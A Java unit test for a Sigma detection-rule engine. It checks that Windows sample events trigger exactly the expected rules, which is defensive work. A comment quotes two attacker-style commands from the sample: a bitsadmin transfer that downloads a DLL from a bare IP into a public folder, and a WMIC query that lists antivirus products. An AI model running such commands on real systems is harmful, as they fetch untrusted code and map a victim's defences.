package vn.tinhso.security.sigma;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.InputStreamReader;
import java.net.URISyntaxException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Collectors;

import org.junit.jupiter.api.Test;

/** The SigmaHQ regression events of the Windows sample give exactly the matches listed in expected.csv. */
class WindowsSampleTest {

    static Path sample() throws URISyntaxException {
        return Path.of(WindowsSampleTest.class.getResource("/sigma/windows-sample").toURI());
    }

    @Test
    void everyRuleOfTheSampleLoadsAndEachEventFileMatchesExactlyItsExpectedRules() throws Exception {
        Path dir = sample();
        SigmaRules.Loaded loaded = new SigmaRules(Map.of()).loadDirectory(dir.resolve("rules"));
        assertThat(loaded.failures()).isEmpty();
        assertThat(loaded.rules()).hasSize(40);

        List<String[]> expected = Files.readAllLines(dir.resolve("expected.csv")).stream().skip(1).map(l -> l.split(",")).toList();
        Map<String, Set<String>> wanted = expected.stream().filter(r -> r[3].equals("true"))
                .collect(Collectors.groupingBy(r -> r[2], Collectors.mapping(r -> r[0], Collectors.toCollection(TreeSet::new))));
        // expected.csv lists each file's own rule only. One event also truly satisfies another rule of the sample:
        // "bitsadmin /transfer n https://12.34.45.67/calc.dll C:\\Users\\Public\\calc.dll" is a bitsadmin download
        // into a suspicious folder (2ddef153) as well as a download from an IP (99c840f2). It is checked by hand and
        // listed here, so any other extra match still fails. Likewise "WMIC.exe … Path AntiVirusProduct Get displayName"
        // is a WMIC product query (15434e33: 'Product' is matched without case) besides a security-product discovery.
        wanted.get("events/99c840f2-2012-46fd-9141-c761987550ef.json").add("2ddef153-167b-4e89-86b6-757a9e65dcac");
        wanted.get("events/e568650b-5dcd-4658-8f34-ded0b1e13992.json").add("15434e33-5027-4914-88d5-3d4145ec25a9");
        for (String[] row : expected) {
            Set<String> got = new TreeSet<>();
            try (var in = new InputStreamReader(Files.newInputStream(dir.resolve(row[2])), StandardCharsets.UTF_8)) {
                for (Map<String, Object> event : EventDocuments.read(in)) {
                    loaded.rules().stream().filter(r -> Logsources.applies(r, event) && r.matches(event)).forEach(r -> got.add(r.id()));
                }
            }
            assertThat(got).as(row[2]).isEqualTo(wanted.getOrDefault(row[2], Set.of()));
        }
    }
}
